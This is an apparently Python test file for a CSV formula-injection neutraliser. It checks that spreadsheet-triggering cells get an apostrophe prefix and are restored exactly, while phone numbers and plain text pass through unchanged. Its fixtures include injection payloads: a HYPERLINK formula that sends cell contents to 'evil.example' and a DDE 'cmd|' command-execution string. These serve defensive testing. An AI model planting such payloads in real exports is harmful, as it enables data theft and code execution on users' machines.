"""Cells a spreadsheet would run, made harmless and back again (FILE-2)."""

from __future__ import annotations

import re
import unicodedata
from typing import Any

import numpy as np
import pyarrow as pa
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from trustleads.enrichment.csvio import formulas, neutralise, restore
from trustleads.enrichment.normalize.arrays import plain_strings

FULL_WIDTH = [chr(ord(sign) + 0xFEE0) for sign in "=+-@"]
SIGNS = "".join(["=+-@", *FULL_WIDTH])
HARMLESS = re.compile(r"[+-][0-9 ().]*|[+][0-9]+ [0-9 ().\-/]*|-+|[+-] ?[0-9][0-9 .,]*([eE][+-]?[0-9]+)? ?%?")

soup = st.text(st.sampled_from([*"=+-@'\"\t\r\n 1,.aE%", *FULL_WIDTH, "\u200b", "\ufeff", "\xa0", "é"]), max_size=8)
texts = st.one_of(soup, st.text(max_size=12), soup.map(lambda text: "'" + text))


def once(values: list[str | None]) -> list[str | None]:
    return neutralise(pa.array(values, pa.string())).to_pylist()


def is_dangerous(cell: str) -> bool:
    """The rule in plain words, written a second time: what a spreadsheet trims, then a sign."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    trimmed = cell.lstrip('"' + "".join(c for c in cell if c.isspace() or unicodedata.category(c) in ("Cc", "Cf")))
    return trimmed[:1] in tuple(SIGNS) and not HARMLESS.fullmatch(cell.strip(" "))


@pytest.mark.clause("FILE-2")
@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "=cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1",
        "\ttext",
        "\rtext",
        "\ntext",
        " =1",
        "\xa0=1",
        "\u200b=1",
        "\ufeff=1",
        "\x00=1",
        '"=1',
        '" =1',
        *(sign + "1+1" for sign in FULL_WIDTH),
        "+49(0)30/123456",
        "+A1",
        "-A1",
        "--1",
        "-1e",
        "+1-202-555-0100",
        "-12,5 EUR",
        "-5%%",
        "=",
        "@",
        "@handle",
    ],
)
def test_a_formula_gets_an_apostrophe_and_loses_it_again(cell: str) -> None:
    assert once([cell]) == ["'" + cell]
    assert once(["'" + cell]) == ["''" + cell]
    assert restore(pa.array(["'" + cell, "''" + cell])).to_pylist() == [cell, "'" + cell]


@pytest.mark.clause("FILE-2")
@pytest.mark.parametrize(
    "cell",
    [
        "+4930123456",
        "+49 30 123456",
        " +49 30 123456 ",
        "+49 (0)30 123456",
        "+1 (202) 555.0100",
        "+1 202-555-0100",
        "+49 30/123456-7",
        "-12.5",
        "-12,5",
        "-1,234.00",
        "-1.234,00",
        "-1 234",
        "- 5",
        "-5%",
        "-5 %",
        "+5",
        "-1e-3",
        "-1.5E+10",
        "-",
        "--",
        " - ",
        "+",
        "",
        " ",
        "'",
        "''",
        "'quoted'",
        "'-12.5",
        "O'Neil",
        "a=b",
        "anna@example.com",
        '"quoted"',
        "é",
        "“=”",
        "'90s",
    ],
)
def test_numbers_phones_and_words_stay_as_they_are(cell: str) -> None:
    assert once([cell]) == [cell]
    assert restore(pa.array([cell])).to_pylist() == [cell]


@pytest.mark.clause("FILE-2")
@settings(max_examples=1000)
@given(st.lists(st.one_of(st.none(), texts), max_size=6))
@example(["'=1", "''=1", "'", "'+49", "'\t"])
@example(["", None, "=1"])
def test_every_text_comes_back_and_none_is_dangerous(values: list[str | None]) -> None:
    column = pa.array(values, pa.string())
    safe = neutralise(column)
    safe.validate(full=True)
    assert restore(safe).to_pylist() == values
    for before, after in zip(values, safe.to_pylist(), strict=True):
        assert after is None or not is_dangerous(after)
        assert after in (before, f"'{before}")
        if before is not None and is_dangerous(before):
            assert after == f"'{before}"


@pytest.mark.clause("FILE-2")
def test_no_invisible_character_hides_a_formula() -> None:
    characters = [chr(code) for code in range(0x110000) if not 0xD800 <= code <= 0xDFFF]
    cells = [c + "=1" for c in characters if c.isspace() or unicodedata.category(c) == "Cc" or c in SIGNS + "'\""]
    assert len(cells) > 80
    assert once(cells) == ["'" + cell for cell in cells]


def test_a_column_without_formulas_is_not_copied() -> None:
    column = pa.array(["a", None, "", "+49 30 1", "b@example.com"])
    assert neutralise(column) is column
    assert restore(column) is column
    for empty in (pa.array([], pa.string()), pa.array([None, None], pa.string()), pa.array(["", ""])):
        assert neutralise(empty) is empty


def by_the_rule(column: pa.StringArray) -> list[str | None]:
    """Both patterns asked about every cell."""
    dangerous, harmless = (test(column).to_pylist() for test in (formulas._is_dangerous, formulas._is_harmless))
    rows = zip(column.to_pylist(), dangerous, harmless, strict=True)
    return [f"'{cell}" if bad and not good else cell for cell, bad, good in rows]


phones = st.text(st.sampled_from("+-0123456789 ()./x"), max_size=9).map(lambda text: "+" + text)


@pytest.mark.clause("FILE-2")
@settings(max_examples=500)
@given(st.lists(st.one_of(texts, phones), max_size=8), st.integers(0, 3), st.data())
@example(["'", "+1+1", "+1", " ", " =", "  =", " a", "\x7f", "\xa0=", "\xa0a", "é"], 0, None)
def test_a_look_at_the_first_bytes_gives_what_the_patterns_give(values: list[str], start: int, data: Any) -> None:
    whole = pa.array(values, pa.string())
    hidden = data.draw(st.lists(st.booleans(), min_size=len(values), max_size=len(values))) if data else []
    if hidden:  # null cells with bytes under them, which must not be looked at
        valid = pa.py_buffer(np.packbits(np.array(hidden), bitorder="little"))
        whole = pa.StringArray.from_buffers(len(values), whole.buffers()[1], whole.buffers()[2], valid)
    column = plain_strings(whole.slice(start))
    safe = neutralise(column)
    safe.validate(full=True)
    assert safe.to_pylist() == by_the_rule(column)


@pytest.mark.clause("FILE-2")
@settings(max_examples=200)
@given(st.data())
def test_a_few_formulas_among_many_cells_are_replaced_in_their_place(data: Any) -> None:
    count = data.draw(st.integers(1, 100))
    values: list[str | None] = data.draw(
        st.lists(st.sampled_from(["", None, "a", "bé"]), min_size=count, max_size=count)
    )
    for row in data.draw(st.lists(st.integers(0, count - 1), max_size=6)):
        values[row] = data.draw(st.sampled_from(["=1", " =é", "+1+1", "'=1"]))
    column = pa.array(values, pa.string())
    safe = neutralise(column)
    safe.validate(full=True)
    assert (safe.to_pylist(), safe.null_count) == (by_the_rule(column), column.null_count)
    back = restore(safe)
    back.validate(full=True)
    assert back.to_pylist() == values
